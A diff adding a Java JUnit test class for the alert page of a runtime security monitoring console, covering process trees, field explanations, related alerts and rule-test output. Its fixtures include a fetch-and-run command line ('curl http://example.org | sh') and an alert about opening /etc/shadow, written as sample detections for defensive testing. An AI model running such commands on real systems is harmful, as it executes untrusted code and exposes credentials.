@@ -1,0 +1,128 @@
+package org.eyas.console.page;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.nio.file.Path;
+import java.util.TreeMap;
+import java.util.regex.Pattern;
+import org.eyas.api.alert.Alert;
+import org.eyas.api.alert.Priority;
+import org.eyas.api.config.RefusedException;
+import org.eyas.api.control.AlertDetails;
+import org.eyas.api.control.PastAlert;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+class AlertPageTest {
+  @TempDir private Path folder;
+  private Visitor visitor;
+
+  @BeforeEach
+  void raise() {
+    visitor = new Visitor(folder);
+    visitor.engine.alerts.raise(Priority.NOTICE, "Own", "opened /etc/<shadow>", "files");
+  }
+
+  private String page() {
+    return visitor.page("/alert", "number", "1");
+  }
+
+  @Test
+  void theProcessesAreATreeWithTheirTimesUsersAndChildren() {
+    String page = page();
+    int init = page.indexOf("systemd (1)");
+    int login = page.indexOf("\u2003\u2003\u2514 sshd (4710)");
+    int own = page.indexOf("\u2003\u2003\u2003\u2514 <b>bash</b> (4711)");
+    int child = page.indexOf("\u2003\u2003\u2003\u2003\u2514 curl (4712)");
+    assertTrue(0 < init && init < login && login < own && own < child, page);
+    assertTrue(Pattern.compile(", started [-0-9]+ [:.0-9]+ \\(\\d+\u202fs before\\)").matcher(page).find(), page);
+    assertTrue(
+        page.substring(child)
+            .startsWith("\u2003\u2003\u2003\u2003\u2514 curl (4712)</span> <span class=\"muted small\">child, user root"),
+        page);
+  }
+
+  @Test
+  void fieldsAreGroupedAndExplainedAndThoseOfTheConditionAreMarked() {
+    String page = page();
+    int group = page.indexOf("<h3>Process</h3>");
+    int name = page.indexOf("<dt class=\"mono\">proc.name</dt>");
+    assertTrue(0 < group && group < name && name < page.indexOf("<h3>Fields</h3>"), page);
+    assertTrue(page.contains("read by the condition"), page);
+    assertTrue(page.contains("The name of the program."), page);
+    assertFalse(visitor.page("/alerts/detail", "number", "1").contains("The name of the program."), "a list is short");
+  }
+
+  @Test
+  void theExplanationIsShown() {
+    assertTrue(page().contains("true   proc.name = bash"));
+  }
+
+  @Test
+  void alertsOfTheSameProcessesAndContainersAroundItAreListed() {
+    assertTrue(page().contains("No other alert of the same processes"));
+    visitor.engine.alerts.raise(Priority.ERROR, "Later", "of the same tree");
+    String page = page();
+    assertTrue(page.contains("/alert?number=2") && page.contains("same processes"), page);
+  }
+
+  @Test
+  void alertsOfOtherProcessesThatShareOnlyTheInitAreNotListed() {
+    visitor.engine.alerts.raiseUndetailed("Other", "from elsewhere");
+    assertFalse(page().contains("from elsewhere"));
+  }
+
+  @Test
+  void anAlertWithoutDetailsSaysWhy() {
+    visitor.engine.alerts.raiseUndetailed("Other", "from elsewhere");
+    assertTrue(visitor.page("/alert", "number", "2").contains("Not collected: too many alerts came at that time"));
+  }
+
+  @Test
+  void theTestOfTheRuleHasTheFieldsOfOutputAndCondition() {
+    String page = page();
+    assertTrue(page.contains("      - evt.type: 'execve'\n"), page);
+    assertTrue(page.contains("        proc.cmdline: 'bash -c ''curl http://example.org | sh'''\n"), page);
+    assertTrue(page.contains("        proc.name: 'bash'\n"), page);
+    assertTrue(page.contains("    expect:\n      - rule: 'Own'\n"), page);
+  }
+
+  @Test
+  void anAlertAboutTheEngineHasNoTest() {
+    Alert own = visitor.engine.alerts.recent(1).getFirst().alert();
+    Alert internal = new Alert(1, own.priority(), own.rule(), "internal", "m", own.fields(), own.tags());
+    assertEquals("", RuleTestText.of(new PastAlert(1, internal)));
+  }
+
+  @Test
+  void recordedEventsOfItsProcessesAndNearMissesAreShownToAdmins() {
+    assertEquals(409, visitor.send("/alert/events", "do", "events", "number", "1").status(), "nothing is recorded");
+    visitor.engine.rules.journal().record(1, 1);
+    String events = Visitor.text(visitor.send("/alert/events", "do", "events", "number", "1"));
+    assertTrue(events.contains("1 events of these processes") && events.contains("opened /etc/<shadow>"), events);
+    assertTrue(Visitor.text(visitor.send("/alert/events", "do", "near", "number", "1")).contains("nearest: evt.type = openat"));
+    assertFalse(visitor.page(visitor.viewer, "/alert", "number", "1").contains("data-trial"));
+  }
+
+  @Test
+  void theEventsAreThoseOfTheProcessAndItsChildrenInTheMinutesAround() throws Exception {
+    PastAlert past = visitor.engine.alerts.recent(1).getFirst();
+    String condition = AlertTrialPage.eventsOf(past).content();
+    assertTrue(condition.contains("(proc.pid in (4711, 4712) or proc.ppid in (4711, 4712))"), condition);
+    long from = past.alert().timestampNanos() - 300_000_000_000L;
+    assertTrue(condition.contains("evt.rawtime >= " + from + " and "), condition);
+  }
+
+  @Test
+  void anAlertOfUnknownProcessesHasNoEvents() {
+    Alert own = visitor.engine.alerts.recent(1).getFirst().alert();
+    Alert bare =
+        new Alert(1, own.priority(), own.rule(), "syscall", "m", new TreeMap<>(), own.tags());
+    PastAlert past = new PastAlert(1, bare, AlertDetails.NONE);
+    assertThrows(RefusedException.class, () -> AlertTrialPage.eventsOf(past));
+  }
+}
